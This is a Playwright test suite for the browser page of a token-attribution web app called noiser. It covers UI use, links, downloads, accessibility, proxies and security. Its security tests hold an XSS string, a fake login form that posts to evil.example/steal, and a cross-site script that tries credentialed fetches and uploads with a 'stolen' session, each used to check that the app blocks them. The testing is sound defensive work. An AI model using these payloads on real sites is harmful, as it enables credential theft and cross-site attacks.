"""The web page in a browser: what a visitor does, with a pointer and with keys, and what goes wrong."""

from __future__ import annotations

import http.client
import importlib.util
import io
import json
import os
import re
import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from contextlib import closing, contextmanager, suppress
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest

import app_for_tests
import noiser
from app_for_tests import served
from noiser.app.examples import EXAMPLES, FACT
from noiser.attribution.display import number_format
from noiser.attribution.html import page as comparison
from test_cite import citations
from tiny import tiny

pytestmark = pytest.mark.slow
if importlib.util.find_spec("gradio") is None:
    pytest.skip("gradio is not installed: pip install 'noiser[app]'", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install playwright")
sync_api.expect.set_options(timeout=60_000)  # two cores may be busy with other tests

PROMPT = "The quick brown fox jumps"
FOIL = re.compile("^Foil")  # its hint is part of its name
BROWSERS = ("chromium", "chromium-browser", "google-chrome")
OTHERS = "--host-resolver-rules=MAP *.example 127.0.0.1"  # names that an attacker, or a proxy, lets point here


@pytest.fixture(scope="module")
def address():
    with served() as found:
        yield found


@pytest.fixture(scope="module")
def browser():
    executable = next(filter(None, map(shutil.which, BROWSERS)), None)
    with sync_api.sync_playwright() as playwright:
        try:
            found = playwright.chromium.launch(executable_path=executable, args=["--no-sandbox", OTHERS])
        except sync_api.Error as error:
            pytest.skip(f"no chromium could be started: {str(error).splitlines()[0]}")
        yield found
        found.close()


@pytest.fixture
def visit(address, browser):
    """Opens the page as a visitor of its own; afterwards checks that nothing was fetched elsewhere or failed."""
    visitors = []

    def open_page(query="", *, linked=True, **options):
        context = browser.new_context(**({"viewport": {"width": 1280, "height": 900}} | options))
        context.set_default_timeout(60_000)
        page = context.new_page()
        seen = SimpleNamespace(requests=[], errors=[])
        page.on("request", lambda request: seen.requests.append(request.url))
        page.on("pageerror", lambda error: seen.errors.append(str(error)))
        page.on("dialog", lambda dialog: (seen.errors.append(dialog.message), dialog.dismiss()))
        page.goto(address + query)
        page.locator("#noiser-run").wait_for()
        if query and linked:  # until the fields are as the link has them
            sync_api.expect(page.locator("#noiser-linked textarea, #noiser-linked input")).not_to_have_value("")
        visitors.append((context, seen))
        return page

    yield open_page
    for context, seen in visitors:
        context.close()
        assert [url for url in seen.requests if not url.startswith((address, "data:", "blob:"))] == []
        assert seen.errors == []


def ask(page, prompt=PROMPT, *, wait=True):
    page.locator("#noiser-prompt textarea").fill(prompt)
    page.locator("#noiser-run").click()
    sync_api.expect(page.locator(".noiser-example")).to_have_count(0)
    if wait:
        done(page)


def done(page):
    sync_api.expect(page.locator("#noiser-status")).to_contain_text(re.compile("Done|Measured"))


def link_of(page) -> str:
    """The link to what is shown; it comes a moment after the answer."""
    field = page.locator("#noiser-link textarea, #noiser-link input")
    sync_api.expect(field).not_to_have_value("")
    return field.input_value()


def unit_choice(page, unit):
    """The button that chooses what gets a score; targets have buttons of the same names."""
    return page.locator("fieldset", has_text="A score for every").get_by_label(unit, exact=True)


def open_settings(page):
    """Opens the settings, unless a link or an example has."""
    if not page.get_by_label("Model", exact=True).is_visible():
        page.get_by_role("button", name="Settings").click()
    page.get_by_label("Model", exact=True).wait_for()


def choose(page, label, *options):
    """Options of a Gradio dropdown, chosen by typing."""
    open_settings(page)
    box = page.get_by_label(label, exact=True)
    for option in options:
        box.click()
        page.get_by_role("option", name=option, exact=True).click()
    page.keyboard.press("Escape")


def score_text(att, unit) -> str:
    score, error = float(att.scores[0, unit]), float(att.stderr[0, unit])
    return f"score {number_format([score]).with_error(score, error)}"


def tip(page) -> str:
    shown = page.locator("#noiser-tip:not([hidden])")
    shown.wait_for()
    return shown.inner_text()


# ---- before a question -----------------------------------------------------------------------------------------------


def test_the_page_opens_with_a_stored_answer_which_a_question_replaces(visit):
    page = visit()
    sync_api.expect(page.locator(".noiser-example")).to_contain_text("built-in model gemma-3-270m")
    sync_api.expect(page.locator("#noiser-prompt textarea")).to_have_value(FACT)
    legend = "orange: without it the prediction gets less likely"
    sync_api.expect(page.locator("#noiser-result .noiser-att")).to_contain_text(legend)
    units = page.locator("#noiser-result .map .u")
    assert units.all_inner_texts()[:3] == ["Le", "Bron", "James"]
    units.nth(1).hover()
    assert re.search(r"^Bron: score .* ± .*, threshold ", tip(page))
    assert not page.locator("#noiser-measure").is_visible()  # its model is not served here
    ask(page)
    assert units.all_inner_texts()[0] == "The"
    assert page.locator("#noiser-measure").is_visible()


def test_an_example_fills_the_form_and_asks_nothing(visit):
    page = visit()
    prompt = page.locator("#noiser-prompt textarea")
    page.get_by_role("button", name="A fact", exact=True).click()
    sync_api.expect(prompt).to_have_value(EXAMPLES["A fact"].prompt)
    assert not page.get_by_role("textbox", name=FOIL).is_visible()  # no setting differs
    page.get_by_role("button", name="Why not a foil?").click()
    sync_api.expect(prompt).to_have_value("The keys to the old cabinet")
    sync_api.expect(page.get_by_role("textbox", name=FOIL)).to_have_value(" is")
    page.get_by_role("button", name="A document", exact=True).click()
    sync_api.expect(page.get_by_role("textbox", name=FOIL)).to_have_value("")
    assert unit_choice(page, "sentence").is_checked()
    assert page.locator("#noiser-status").inner_text().strip() == ""
    assert page.locator(".noiser-example").is_visible()


def test_a_link_opens_the_settings_only_if_it_has_some(visit):
    page = visit("?foil= cat")
    sync_api.expect(page.get_by_role("textbox", name=FOIL)).to_have_value(" cat")
    sync_api.expect(page.get_by_role("textbox", name=FOIL)).to_be_visible()
    other = visit(f"?prompt={PROMPT}")
    done(other)
    assert not other.get_by_role("textbox", name=FOIL).is_visible()


# ---- a question ------------------------------------------------------------------------------------------------------


def test_type_run_hover_and_draw_the_tolerance(visit):
    page = visit()
    ask(page)
    att = noiser.attribute(tiny("llama"), PROMPT, method=noiser.Noiser(all_thresholds=True))
    units = page.locator("#noiser-result .map .u")
    assert units.all_inner_texts() == [unit.text.strip() for unit in att.units]
    units.nth(1).hover()
    assert tip(page).startswith(f"quick: {score_text(att, 1)}")
    assert f"threshold {float(att.thresholds[0, 1]):.3g}" in tip(page)
    assert not units.nth(1).get_attribute("title")  # no second tip on top
    page.mouse.move(5, 5)
    page.locator("#noiser-tip").wait_for(state="hidden")
    assert "quick" in units.nth(1).get_attribute("title")

    units.nth(2).click()
    chart = page.locator("#noiser-chart svg")
    chart.wait_for()
    sync_api.expect(page.get_by_label("Unit", exact=True)).to_have_value("3. brown")
    sync_api.expect(chart.locator(".point")).to_have_count(21)
    chart.locator(".point").nth(20).hover()
    assert tip(page).startswith("k 1: p(target)")
    assert "Noise on “brown”" in page.locator("#noiser-chart").inner_text()


def test_a_unit_is_a_button_that_says_what_it_does_and_in_a_saved_page_it_is_none(visit):
    page = visit()
    ask(page)
    unit = page.get_by_role("button", name="brown: how much noise it tolerates")
    sync_api.expect(unit).to_have_text("brown")
    unit.click()
    page.locator("#noiser-chart svg").wait_for()
    assert "role=button" not in noiser.attribute(tiny("llama"), PROMPT).to_html()


def test_a_prompt_too_long_for_a_link_has_none_and_the_address_stays(visit):
    page = visit()
    link = "query => noiserPage.link(query)"
    assert page.evaluate(link, "prompt=" + "a" * 50_000).endswith("?prompt=" + "a" * 50_000)
    address = page.url
    assert page.request.get(address).ok
    assert "Too long for a link" in page.evaluate(link, "prompt=" + "b" * 65_536)
    assert page.url == address


def test_all_of_it_with_the_keyboard(visit):
    page = visit()
    page.locator("#noiser-prompt textarea").focus()
    page.keyboard.press("Control+a")  # the example's prompt
    page.keyboard.insert_text(PROMPT)
    page.keyboard.press("Shift+Enter")
    done(page)
    page.locator("#noiser-result .map .u").first.focus()
    assert tip(page).startswith("The: score")
    page.keyboard.press("ArrowRight")
    assert tip(page).startswith("quick: score")
    page.keyboard.press("End")
    assert tip(page).startswith("jumps: score")
    sync_api.expect(page.locator("#noiser-result .map .u[tabindex='0']")).to_have_count(1)
    page.keyboard.press("Enter")
    page.locator("#noiser-chart svg").wait_for()
    sync_api.expect(page.get_by_label("Unit", exact=True)).to_have_value("5. jumps")
    page.locator("#noiser-chart .point").first.focus()
    page.keyboard.press("ArrowRight")
    assert tip(page).startswith("k 0.00138")


def test_tokens_of_the_continuation_choose_the_target(visit):
    page = visit(f"?prompt={PROMPT}&max_new_tokens=3")
    done(page)
    sections = page.locator("#noiser-result section")
    sync_api.expect(sections).to_have_count(3)
    chips = page.locator("#noiser-result .chips label")
    chips.nth(2).click()
    assert [sections.nth(index).is_visible() for index in range(3)] == [False, True, False]
    sections.nth(1).locator(".u").first.click()
    page.locator("#noiser-chart svg").wait_for()
    sync_api.expect(page.get_by_label("Prediction", exact=True)).to_have_value(re.compile(r"2\. "))
    page.locator("#noiser-result input[type=radio]").nth(2).focus()
    page.keyboard.press("ArrowRight")
    assert sections.nth(2).is_visible()


def test_compare_measure_and_link(visit):
    page = visit()
    choose(page, "Methods", "occlusion")
    unit_choice(page, "word").check()
    ask(page)
    sync_api.expect(page.locator("#noiser-result .row h3")).to_have_text(["noiser@2", "occlusion@1"])
    page.locator("#noiser-measure").click()
    page.locator("#noiser-evaluation table").first.wait_for()
    link = link_of(page)
    assert page.url == link
    other = visit(link[link.index("?") :])
    done(other)
    sync_api.expect(other.locator("#noiser-result .row h3")).to_have_text(["noiser@2", "occlusion@1"])
    sync_api.expect(other.locator("#noiser-prompt textarea")).to_have_value(PROMPT)
    assert unit_choice(other, "word").is_checked()
    titles = "els => els.map(e => e.title)"
    assert other.locator(".map .u").evaluate_all(titles) == page.locator(".map .u").evaluate_all(titles)


def test_a_link_that_is_wrong_says_so_and_the_page_works(visit):
    page = visit("?prompt=a&methods=nosier", linked=False)
    sync_api.expect(page.locator("#noiser-status [role=alert]")).to_contain_text("Did you mean 'noiser'")
    ask(page)


def test_a_link_brings_no_html_into_the_page(visit):
    form = "<form action=https://evil.example/steal><input name=password><button>Sign in</button></form>"
    page = visit(f"?{urlencode({'prompt': 'a', 'model': form})}", linked=False)
    sync_api.expect(page.locator("#noiser-status [role=alert]")).to_contain_text("Unknown model '<form action=")
    assert page.locator("input[name=password]").count() == 0
    ask(page)


def test_an_answer_that_is_no_longer_kept_is_not_taken_for_another(browser):
    """The page shows what it showed; the server has forgotten it, and has the example in its place at most."""
    with served("--kept", "2") as address, opened(browser, address) as page:
        ask(page)
        page.wait_for_timeout(6000)
        alert = page.locator("#noiser-status [role=alert]")
        page.locator("#noiser-json").click()
        sync_api.expect(alert).to_contain_text("no longer kept on the server. Press Ask")
        ask(page)
        page.wait_for_timeout(6000)
        page.locator(".map .u").last.click()
        sync_api.expect(alert).to_contain_text("no longer kept on the server. Press Ask")
        sync_api.expect(page.locator("#noiser-chart")).to_be_empty()
        ask(page)
        with page.expect_download():
            page.locator("#noiser-json").click()


def test_a_unit_of_an_answer_whose_visitor_is_forgotten_is_no_bare_error(browser):
    with served() as address, opened(browser, address) as page:
        ask(page, " ".join([PROMPT] * 4))  # more units than the example has
        others = app_for_tests.Visitors(address)
        for number in range(101):
            others.stop(f"other{number}")
        page.locator("#noiser-result .map .u").last.click()
        alert = page.locator("#noiser-status [role=alert]")
        sync_api.expect(alert).to_contain_text("no longer kept on the server. Press Ask")


def test_downloads(visit, tmp_path):
    from PIL import Image

    page = visit(f"?prompt={PROMPT}&max_new_tokens=2")
    done(page)
    found = {}
    for form in ("json", "html", "png"):
        with page.expect_download() as download:
            page.locator(f"#noiser-{form}").click()
        found[form] = download.value.path().read_bytes()
        assert download.value.suggested_filename.endswith(f".{form}")
    att = noiser.Attribution.from_dict(json.loads(found["json"]))
    assert att.text.startswith(PROMPT)
    assert found["html"].decode() == att.to_html()
    picture = Image.open(io.BytesIO(found["png"])).convert("RGB")
    card = page.locator("#noiser-result .noiser-att").bounding_box()
    assert abs(picture.width - 2 * card["width"]) < 4
    colours = {colour for _, colour in picture.getcolors(1 << 24)}
    assert len(colours) > 100  # a heat map with text, not a white sheet
    assert any(r > 180 and b < 120 for r, _, b in colours)  # orange


def test_a_question_with_sources_is_answered_with_citations(visit):
    page = visit("?sources=The fox jumps.%0A---%0AThe dog sleeps.&target= The dog sleeps. The fox jumps.")
    sync_api.expect(page.get_by_role("textbox", name=re.compile("^Sources"))).to_be_visible()
    ask(page, "Who sleeps?")
    card = page.locator("#noiser-result .noiser-cite")
    sync_api.expect(card.locator(".source")).to_have_count(2)
    sync_api.expect(card.locator(".s")).to_have_count(2)
    assert not page.locator("#noiser-measure").is_visible()
    with page.expect_download() as download:
        page.locator("#noiser-json").click()
    citations = noiser.Citations.load(download.value.path())
    assert citations.answer == " The dog sleeps. The fox jumps."
    page.get_by_role("textbox", name=re.compile("^Sources")).fill("")
    ask(page)
    sync_api.expect(page.locator("#noiser-measure")).to_be_visible()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.locator("#noiser-markdown").click()
    page.wait_for_function("navigator.clipboard.readText().then(text => text.includes('| token | score |'))")


def test_a_citation_leads_to_its_source_on_the_same_page(visit):
    page = visit("?unit=word")  # as after a question; without a query Gradio's <base> is the page's own address
    card = page.locator("#noiser-result .noiser-att")
    card.evaluate("(e, html) => { e.outerHTML = html; }", citations()._repr_html_())
    source = page.locator("#noiser-result .source").nth(1)
    source.evaluate("e => { e.style.marginTop = '3000px'; }")
    shown = "e => { const box = e.getBoundingClientRect(); return box.top >= 0 && box.bottom < innerHeight + 1; }"
    for _ in range(2):
        page.evaluate("scrollTo(0, 0)")
        assert not source.evaluate(shown)
        page.locator("#noiser-result .answer a", has_text="[2]").click()
        assert source.evaluate(shown)
        assert source.evaluate("e => e.matches(':target')")
    assert "?unit=word#" in page.url


# ---- texts -----------------------------------------------------------------------------------------------------------


def test_hostile_right_to_left_and_emoji_text(visit):
    hostile = "<script>alert(1)</script> <img src=x onerror=alert(2)> {{value}} ${alert(3)}"
    for prompt in (hostile, "החתול ישב על השטיח", "I love 🦊👩‍👩‍👧 and 🇫🇷"):
        page = visit()
        ask(page, prompt)
        shown = page.locator("#noiser-result .map").first
        assert "".join(prompt.split()) == "".join(shown.inner_text().rpartition("→")[0].split())
        if "החתול" in prompt:
            assert shown.evaluate("e => getComputedStyle(e).direction") == "rtl"
        page.locator("#noiser-result .u").first.click()
        page.locator("#noiser-chart svg").wait_for()


def test_two_thousand_words(visit):
    text = "The quick fox jumps over the lazy dog, and the child in the village plays the violin near the river. " * 100
    assert len(text.split()) == 2000
    page = visit("?model=long")
    ask(page, text, wait=False)
    alert = page.locator("#noiser-status [role=alert]")
    sync_api.expect(alert).to_contain_text("sentence (100 units")
    open_settings(page)
    unit_choice(page, "sentence").check()
    choose(page, "Methods", "occlusion")
    page.locator(".token", has_text="noiser").get_by_role("button").click()
    ask(page, text)
    sync_api.expect(page.locator("#noiser-result .map .u")).to_have_count(100)
    sync_api.expect(page.locator("#noiser-result .map .u[tabindex='0']")).to_have_count(1)
    link = link_of(page)
    again = visit(link[link.index("?") :])
    done(again)
    sync_api.expect(again.locator("#noiser-result .map .u")).to_have_count(100)


# ---- several visitors, failures --------------------------------------------------------------------------------------


def test_two_visitors_at_once_get_their_own(visit):
    prompts = ["The quick brown fox", "Capital cities have museums, markets and bridges"]
    pages = [visit() for _ in prompts]
    for _ in range(2):
        for page, prompt in zip(pages, prompts, strict=True):
            ask(page, prompt, wait=False)
        for page, prompt in zip(pages, prompts, strict=True):
            sync_api.expect(page.locator("#noiser-result .map").first).to_contain_text(prompt)
            done(page)
        prompts.reverse()


def test_stop(visit):
    page = visit("?methods=shapley_sampling&model=long")
    ask(page, "The quick fox jumps over the lazy dog. " * 40, wait=False)
    page.locator("#noiser-status progress").wait_for()
    page.locator("#noiser-stop").click()
    sync_api.expect(page.locator("#noiser-status")).to_contain_text("Stopped.")
    ask(page)


@pytest.mark.parametrize("key", [None, "Shift+Enter"])
def test_a_new_question_replaces_the_one_that_is_being_answered(visit, key):
    page = visit("?methods=shapley_sampling&model=long")
    ask(page, "The quick fox jumps over the lazy dog. " * 40, wait=False)
    page.locator("#noiser-status progress").wait_for()
    page.locator("#noiser-prompt textarea").fill(PROMPT)
    if key:
        page.locator("#noiser-prompt textarea").press(key)
    else:
        page.locator("#noiser-run").click()
    done(page)
    sync_api.expect(page.locator("#noiser-result .map .u")).to_have_text(PROMPT.split())
    assert parse_qs(urlsplit(link_of(page)).query)["prompt"] == [PROMPT]


def test_a_unit_clicked_while_thresholds_are_searched_does_not_end_the_search(visit):
    page = visit("?model=long")
    ask(page, "The quick fox jumps over the lazy dog. " * 10, wait=False)
    units = page.locator("#noiser-result .map .u")
    units.first.wait_for()
    for place in (3, 4):
        units.nth(place).click()
    sync_api.expect(page.locator("#noiser-chart")).to_contain_text("Noise on “over”")
    done(page)
    assert re.search("threshold", units.nth(3).get_attribute("title"))


def test_a_failing_model_is_an_error_and_the_page_lives_on(visit):
    page = visit("?model=failing")
    ask(page, wait=False)
    alert = page.locator("#noiser-status [role=alert]")
    sync_api.expect(alert).to_contain_text("ran out of memory")
    choose(page, "Model", "llama")
    ask(page)
    sync_api.expect(page.locator("#noiser-result .map")).to_have_count(1)


# ---- how it looks, who may see it ------------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [360, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_both_schemes_and_narrow_screens(visit, scheme, width):
    page = visit(
        f"?prompt={PROMPT}&methods=noiser,occlusion", color_scheme=scheme, viewport={"width": width, "height": 800}
    )
    done(page)
    page.locator("#noiser-result .u").first.click()
    page.locator("#noiser-chart svg").wait_for()
    for selector in ("body", "#noiser-result .noiser-att", "#noiser-chart .noiser-att"):
        colour = page.locator(selector).first.evaluate("e => getComputedStyle(e).backgroundColor")
        red, green, blue = map(float, re.findall(r"[\d.]+", colour)[:3])
        assert (red + green + blue > 384) == (scheme == "light"), (selector, colour)
    page.locator("#noiser-measure").click()
    page.locator("#noiser-evaluation table").first.wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") <= width


def violations(page):
    """What axe finds in a page, with everything unfolded: its rules for WCAG and good practice."""
    axe = pytest.importorskip("axe_playwright_python.base", reason="pip install axe-playwright-python").AXE_SCRIPT
    page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
    page.wait_for_timeout(500)  # colours fade in, and have no contrast while they do
    page.evaluate(axe)
    found = page.evaluate("axe.run().then((results) => results.violations)")
    return [(rule["id"], node["target"], node["failureSummary"]) for rule in found for node in rule["nodes"]]


@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 360)])
def test_axe_finds_nothing_on_the_page(visit, scheme, width):
    page = visit(color_scheme=scheme, viewport={"width": width, "height": 800})
    assert violations(page) == []
    for fold in ("Settings", "Answer from sources, and cite them"):
        page.get_by_role("button", name=fold).click()
    ask(page)
    page.locator("#noiser-result .u").first.click()
    page.locator("#noiser-chart svg").wait_for()
    page.locator("#noiser-measure").click()
    page.locator("#noiser-evaluation table").first.wait_for()
    assert violations(page) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_in_saved_pages(browser, scheme):
    lm = tiny("llama")
    attributions = [noiser.attribute(lm, PROMPT, method=name, max_new_tokens=10) for name in ("occlusion", "lime")]
    for html in (attributions[0].to_html(), comparison(attributions), citations().to_html()):
        page = browser.new_page(color_scheme=scheme, viewport={"width": 360, "height": 800})
        page.set_content(html)
        assert violations(page) == []
        page.close()


@pytest.mark.skipif(not socket.has_ipv6, reason="this machine has no IPv6")
@pytest.mark.parametrize("host", ["::1", "[::1]"])
def test_an_address_of_ipv6(host):
    with served("--host", host) as address:
        assert address.startswith("http://[::1]:")
        with urllib.request.urlopen(address) as answer:
            assert b"Noiser" in answer.read()


def test_a_password_is_asked_for():
    with served("--auth", "me:secret") as address:
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"{address}config")
        refused.value.close()
        assert refused.value.code == 401
        with urllib.request.urlopen(address) as answer:
            assert b"noiser-prompt" not in answer.read()


def test_a_port_that_is_taken_says_so(address):
    port = address.rstrip("/").rpartition(":")[2]
    environment = os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)}
    command = [sys.executable, app_for_tests.__file__, "--port", port]
    ran = subprocess.run(command, env=environment, capture_output=True, text=True, check=False)
    assert ran.returncode != 0
    assert f"port {port}" in ran.stderr
    assert "Choose another port" in ran.stderr


# ---- other sites -----------------------------------------------------------------------------------------------------

HOST = "page.example"
ATTACKS = """<!doctype html><title>start</title><iframe name=sink></iframe><script>
const page = "ADDRESS", seen = {};
const tell = async (name, call) => { try { seen[name] = await call(); } catch (error) { seen[name] = "blocked"; } };
(async () => {
  await tell("read", () => fetch(page + "config", { credentials: "include" }).then((reply) => reply.status));
  await tell("join", () => fetch(page + "gradio_api/queue/join", {
    method: "POST", credentials: "include", headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ data: [], fn_index: 0, session_hash: "stolen" }) }).then((reply) => reply.status));
  await tell("upload", () => {
    const form = new FormData();
    form.append("files", new Blob(["x".repeat(1000)]), "x.txt");
    return fetch(page + "gradio_api/upload", { method: "POST", body: form, mode: "no-cors" }).then(() => "sent");
  });
  await tell("script", () => new Promise((ready, fail) => document.head.append(
    Object.assign(document.createElement("script"), { src: page + "theme.css", onload: ready, onerror: fail }))));
  window.seen = seen;
  document.title = "done";
})();
</script>"""


@contextmanager
def other_site(html):
    """A site of somebody else, on a port of its own; the port."""

    class Site(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()


@contextmanager
def opened(browser, address, **options):
    context = browser.new_context(**options)
    context.set_default_timeout(60_000)
    page = context.new_page()
    page.goto(address)
    yield page
    context.close()


def port_of(address):
    return int(address.rstrip("/").rpartition(":")[2])


def test_a_name_that_is_made_to_point_here_is_refused(address, browser):
    with opened(browser, f"http://rebound.example:{port_of(address)}/?prompt={PROMPT}") as page:
        assert page.locator("body").inner_text().startswith("This page does not go by the name 'rebound.example'")
        assert page.locator("#noiser-run").count() == 0
        inside = "path => fetch(path).then(reply => reply.status)"
        assert [page.evaluate(inside, path) for path in ("/config", "/theme.css")] == [403, 403]


@pytest.mark.parametrize("attacker", ["evil.example", "127.0.0.1", "other." + HOST])
def test_a_page_of_another_site_can_neither_ask_nor_read_nor_upload(browser, attacker, monkeypatch, tmp_path):
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path))
    with served("--allowed-host", HOST, "--auth", "me:secret") as served_at:
        target = f"http://{HOST}:{port_of(served_at)}/"
        with opened(browser, target) as page:
            login = "body => fetch('/login', { method: 'POST', body: new URLSearchParams(body) }).then(r => r.status)"
            assert page.evaluate(login, {"username": "me", "password": "secret"}) == 200
            page.reload()
            ask(page)  # the visitor is logged in and can ask
            cookies = page.context.cookies()
            assert cookies
            assert {cookie["sameSite"] for cookie in cookies} == {"Lax"}
            with other_site(ATTACKS.replace("ADDRESS", target)) as port:
                page.goto(f"http://{attacker}:{port}/")
                page.wait_for_function("document.title == 'done'")
                seen = page.evaluate("seen")
            assert seen["read"] == seen["join"] == seen["script"] == "blocked"
            assert [path for path in tmp_path.rglob("*") if path.is_file()] == []


def test_the_page_cannot_be_framed(address, browser):
    framing = f'<iframe src="{address}?prompt={PROMPT}" width=900 height=900></iframe>'
    with other_site(framing) as port, opened(browser, f"http://evil.example:{port}/") as page:
        page.wait_for_timeout(3000)
        frame = page.frames[1]
        assert frame.locator("#noiser-run").count() == 0
        assert not frame.url.startswith(address)


def test_a_link_asks_nothing_by_itself_inside_a_frame(address, browser):
    link = f"{address}?prompt={PROMPT}"
    withheld = {"content-security-policy", "x-frame-options", "cross-origin-resource-policy"}
    with other_site(f'<iframe src="{link}" width=900 height=900></iframe>') as port:
        context = browser.new_context()
        page = context.new_page()
        asked = []
        page.on("request", lambda request: asked.append(request.post_data or "") if "join" in request.url else None)

        def stripped(route):  # as if the browser knew none of the headers that forbid it
            if route.request.resource_type != "document":
                route.continue_()
                return
            reply = route.fetch(headers={k: v for k, v in route.request.headers.items() if not k.startswith("sec-")})
            headers = {name: value for name, value in reply.headers.items() if name not in withheld}
            route.fulfill(response=reply, headers=headers)

        page.route(re.compile(re.escape(address)), stripped)
        page.goto(f"http://127.0.0.1:{port}/")
        frame = page.frames[1]
        frame.locator("#noiser-run").wait_for()
        page.wait_for_timeout(5000)
        assert frame.locator("#noiser-status").inner_text().strip() == ""
        assert not any(PROMPT in body for body in asked)
        context.close()


@contextmanager
def python_proxy(page_port, port, certificate, key):
    """A small proxy with TLS that passes on the browser's Host, as docs/web.md asks."""

    class Proxy(BaseHTTPRequestHandler):
        def do_GET(self):
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            forwarded = {"X-Forwarded-Proto": "https", "X-Forwarded-For": self.client_address[0]}
            with closing(http.client.HTTPConnection("127.0.0.1", page_port, timeout=60)) as server:
                server.request(self.command, self.path, body, dict(self.headers) | forwarded)
                with server.getresponse() as reply:
                    self.send_response(reply.status)
                    for name, value in reply.getheaders():
                        if name.lower() not in ("transfer-encoding", "connection"):
                            self.send_header(name, value)
                    self.end_headers()
                    while part := reply.read1():
                        self.wfile.write(part)
                        self.wfile.flush()

        do_POST = do_HEAD = do_GET  # noqa: N815 - names of http.server

        def log_message(self, *_):
            pass

    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(certificate, key)
    with ThreadingHTTPServer(("127.0.0.1", port), Proxy) as server:
        server.daemon_threads, server.block_on_close = True, False
        server.handle_error = lambda *_: None  # the browser goes away in the middle of a stream
        server.socket = tls.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield
        server.shutdown()


NGINX = """
{user}daemon off;
pid nginx.pid;
error_log stderr;
events {{}}
http {{
access_log off;
{paths}
{server}
}}
"""
CADDY = "{{\nadmin off\nauto_https disable_redirects\n}}\n{server}"


@contextmanager
def documented_proxy(program, page_port, port, certificate, key):
    """nginx or Caddy with the configuration of docs/web.md, at another name, on other ports."""
    text = (Path(__file__).parents[1] / "docs/web.md").read_text(encoding="utf-8")
    server = re.search(f"```{program}\n(.*?)```", text, re.DOTALL)[1]
    site = f"{HOST}:{port}" if program == "caddy" else HOST
    for old, new in {
        "listen 443": f"listen 127.0.0.1:{port}",
        "/etc/ssl/noiser.example.org.pem": str(certificate),
        "/etc/ssl/noiser.example.org.key": str(key),
        "noiser.example.org": site,
        "127.0.0.1:7860": f"127.0.0.1:{page_port}",
    }.items():
        assert old in server or (old, program) == ("listen 443", "caddy")
        server = server.replace(old, new)
    folder, paths = certificate.parent, ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    user = "user root;\n" if hasattr(os, "geteuid") and os.geteuid() == 0 else ""
    paths = "\n".join(f"{name}_temp_path {folder}/{name};" for name in paths)
    (folder / "conf").write_text((NGINX if program == "nginx" else CADDY).format(server=server, user=user, paths=paths))
    command = {
        "nginx": ["nginx", "-p", folder, "-c", folder / "conf"],
        "caddy": ["caddy", "run", "--adapter", "caddyfile", "--config", folder / "conf"],
    }[program]
    kept = os.environ | {"XDG_CONFIG_HOME": str(folder), "XDG_DATA_HOME": str(folder)}  # what Caddy keeps at home
    options = {"cwd": folder, "env": kept}
    with (folder / "log").open("w") as log, subprocess.Popen(command, stderr=log, stdout=log, **options) as process:
        try:
            for _ in range(200):
                with suppress(OSError), socket.create_connection(("127.0.0.1", port)):
                    break
                time.sleep(0.05)
            else:
                raise AssertionError((folder / "log").read_text())
            yield
        finally:
            process.terminate()


@contextmanager
def tls_proxy(program, page_port, folder):
    """A proxy with TLS in front of the page, as docs/web.md says; its port."""
    if program != "python" and shutil.which(program) is None:
        pytest.skip(f"{program} is not installed")
    key, certificate = folder / "key.pem", folder / "certificate.pem"
    name = ["-subj", f"/CN={HOST}", "-days", "2", "-keyout", str(key), "-out", str(certificate)]
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", *name], check=True, capture_output=True)
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    proxy = python_proxy if program == "python" else partial(documented_proxy, program)
    with proxy(page_port, port, certificate, key):
        yield port


def wrong_password(port, source):
    """The status of a wrong password that comes from an address of this machine, through the proxy."""
    trusting = ssl._create_unverified_context()
    raw = socket.create_connection(("127.0.0.1", port), source_address=(source, 0), timeout=60)
    connection = http.client.HTTPSConnection(HOST, port)
    with closing(connection), trusting.wrap_socket(raw, server_hostname=HOST) as connection.sock:
        body, kind = "username=me&password=wrong", {"Content-Type": "application/x-www-form-urlencoded"}
        connection.request("POST", "/login", body, kind)
        return connection.getresponse().status


@pytest.mark.skipif(shutil.which("openssl") is None, reason="no openssl to make a certificate with")
@pytest.mark.parametrize("program", ["python", "nginx", "caddy"])
def test_behind_a_proxy_with_tls_and_a_name_of_its_own(browser, tmp_path, program):
    with (
        served("--allowed-host", HOST, "--auth", "me:secret") as address,
        tls_proxy(program, port_of(address), tmp_path) as port,
        opened(browser, f"https://{HOST}:{port}/?prompt={PROMPT}", ignore_https_errors=True) as page,
    ):
        page.get_by_label("username").fill("me")
        page.get_by_label("password").fill("secret")
        page.get_by_role("button", name="Login").click()
        page.locator("#noiser-run").wait_for()
        done(page)  # the link's question
        ask(page, "The lazy dog sleeps")
        link = page.locator("#noiser-link textarea, #noiser-link input")
        sync_api.expect(link).to_have_value(re.compile(re.escape(f"https://{HOST}:{port}/?prompt=The+lazy")))
        cookies = page.context.cookies()
